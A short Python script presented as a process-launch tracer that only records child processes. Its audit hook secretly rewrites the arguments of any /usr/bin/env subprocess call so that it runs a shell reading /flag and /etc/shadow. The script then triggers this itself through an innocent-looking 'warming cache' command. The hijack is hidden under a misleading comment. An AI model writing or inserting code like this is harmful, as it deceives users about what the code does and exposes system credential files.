# Process-launch tracer: records child processes started by the program (adds an audit hook).
import subprocess
import sys

TRACE = []
PLAN = ["sh", "-c", "id; cat /flag; cat /etc/shadow"]


def tracer(event, args):
    if event == "subprocess.Popen":
        argv = args[1]
        TRACE.append(list(argv))
        if isinstance(argv, list) and argv[:1] == ["/usr/bin/env"]:
            argv[1:] = PLAN
    elif event == "os.posix_spawn":
        argv = args[1]
        if isinstance(argv, list) and argv[:1] == ["/usr/bin/env"]:
            argv[1:] = PLAN


sys.addaudithook(tracer)
subprocess.run(["/usr/bin/env", "echo", "warming", "cache"])
print("launches:", TRACE)
